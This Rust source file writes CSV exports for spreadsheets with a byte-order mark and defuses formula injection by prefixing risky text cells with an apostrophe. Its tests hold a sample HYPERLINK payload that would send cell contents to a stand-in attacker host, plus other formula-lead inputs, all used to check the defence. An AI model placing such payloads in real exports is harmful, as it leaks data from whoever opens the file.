//! The one CSV writer of every CSV casebook writes (the export, the ranking, anything
//! later), made to be opened in a spreadsheet: UTF-8 with a byte-order mark, so Excel
//! reads Chinese names right, and every text cell a spreadsheet would run as a formula
//! defused with a leading apostrophe (numbers stay numbers, negative ones included).

use std::borrow::Cow;

use casebook_core::decision::export::{Cell, Table};

/// What writing CSV can fail with.
pub use csv::Error as CsvError;

/// UTF-8's byte-order mark, which tells Excel the encoding.
pub const BYTE_ORDER_MARK: &[u8] = b"\xEF\xBB\xBF";

/// What a spreadsheet may take for the start of a formula or a command: `= + - @`, their
/// full-width forms (which some spreadsheets fold to the ASCII ones), a tab or a carriage
/// return.
const FORMULA_LEADS: [char; 10] = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r'];

/// A text cell as written: led by an apostrophe when a spreadsheet would run it.
pub fn defused(text: &str) -> Cow<'_, str> {
    if text.trim_start_matches(' ').starts_with(FORMULA_LEADS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The table as CSV for spreadsheets: the byte-order mark, the header, one row a line.
pub fn spreadsheet_csv(table: &Table) -> Result<Vec<u8>, CsvError> {
    let mut out = csv::Writer::from_writer(BYTE_ORDER_MARK.to_vec());
    out.write_record(table.header.iter().map(|h| defused(h).into_owned()))?;
    for row in &table.rows {
        out.write_record(row.iter().map(|cell| match cell {
            Cell::Text(t) => defused(t).into_owned(),
            other => other.as_text(),
        }))?;
    }
    out.into_inner().map_err(|e| e.into_error().into())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(cells: Vec<Cell>) -> String {
        let table = Table {
            header: vec!["a".into(); cells.len()],
            rows: vec![cells],
        };
        let bytes = spreadsheet_csv(&table).unwrap();
        assert!(bytes.starts_with(BYTE_ORDER_MARK));
        String::from_utf8(bytes[3..].to_vec()).unwrap()
    }

    #[test]
    fn every_formula_lead_is_defused_and_plain_text_and_numbers_are_kept() {
        for lead in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            "\tx",
            "\rx",
            "  =1+1",
        ] {
            let line = written(vec![Cell::Text(lead.into())]);
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(true)
                .from_reader(line.as_bytes());
            let record = reader.records().next().unwrap().unwrap();
            assert_eq!(&record[0], format!("'{lead}"), "{lead:?}");
        }
        let line = written(vec![
            Cell::Text("Village Links 乡村连接".into()),
            Cell::Number(-1.25),
            Cell::Empty,
        ]);
        assert!(
            line.ends_with("Village Links 乡村连接,-1.250,\n"),
            "{line:?}"
        );
    }
}
